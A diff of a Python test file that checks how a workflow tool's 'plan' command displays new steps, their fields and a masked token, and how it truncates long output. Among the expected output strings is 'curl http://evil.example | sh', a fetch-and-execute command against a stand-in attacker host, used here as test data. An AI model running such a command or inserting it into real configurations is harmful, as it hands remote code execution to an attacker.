@@ -21,12 +21,13 @@ def test_a_new_workflow_shows_what_decides_safety(git: Git, typed: Callable[...,
     for output_format in ("text", "markdown"):
         out = typed("plan", git.folder, "--format", output_format).out
         for part in (
-            "steps.load.imageId: added workflow-python (100)",
-            'steps.load.command: added "python load.py"',
-            'steps.load.repository.url: added "https://github.com/example/load"',
-            "steps.load.repository.token: added (sensitive)",
+            "+ steps.load (standard)\n",
+            "+   imageId: workflow-python (100)\n",
+            '+   command: "python load.py"\n',
+            '+   repository.url: "https://github.com/example/load"\n',
+            "+   repository.token: (sensitive)\n",
             "curl http://evil.example | sh",
-            'steps.one.parameters.env.H: added "ftp://a"',
+            '+   parameters.env.H: "ftp://a"\n',
         ):
             assert part in out
         assert re.search(r"and [0-9]+ more fields; --show-bodies shows all", out)
@@ -36,7 +37,7 @@ def test_a_large_new_workflow_is_bounded(git: Git, typed: Callable[..., Ended]) 
     """Of 100 steps some are shown and every other field is counted."""
     git.write(body("new", steps={f"s{number:02}": step(f"run {number}") for number in range(100)}))
     lines = typed("plan", git.folder).out.splitlines()
-    shown = [line for line in lines if ": added " in line]
+    shown = [line for line in lines if line.startswith("      + ")]
     (rest,) = (line for line in lines if "more fields" in line)
     assert len(shown) == 200
-    assert rest.strip() == "and 100 more fields; --show-bodies shows all"
+    assert rest.strip() == "and 150 more fields; --show-bodies shows all"
